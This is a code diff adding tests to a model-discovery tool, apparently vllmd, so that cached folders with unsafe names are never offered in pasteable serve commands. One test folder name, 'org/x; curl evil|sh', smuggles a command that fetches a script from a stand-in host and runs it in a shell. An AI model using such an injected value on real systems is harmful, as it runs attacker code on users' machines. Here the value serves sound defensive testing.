@@ -10,6 +10,7 @@ import pytest
 from tests.estimate.files import LLAMA_8B, GiB, cached, model
 from vllmd.config.types import Config, ModelConfig
 from vllmd.daemon.discovery import with_discovered
+from vllmd.hub import discover
 
 
 def test_gguf_files_are_for_llama_cpp(tmp_path: Path) -> None:
@@ -41,3 +42,11 @@ def test_a_folders_name_is_checked_as_a_configured_one(
         found = with_discovered(Config(discover=True), tmp_path)
     assert set(found.models) == {"org/good"}
     assert "is left out: it is not named like a repository" in caplog.text
+    assert not any("\n" in record.getMessage() or "\x1b" in record.getMessage() for record in caplog.records)
+
+
+def test_a_folder_that_is_no_repository_is_offered_to_nobody(tmp_path: Path) -> None:
+    """`vllmctl list` says how to serve what is in the cache, in a line that is made to be pasted."""
+    for each in ("org/good", "org/x; curl evil|sh", "org/..", "org/a\nb"):
+        model(cached(tmp_path, each), LLAMA_8B, BF16=GiB)
+    assert [one.name for one in discover(tmp_path)] == ["org/good"]
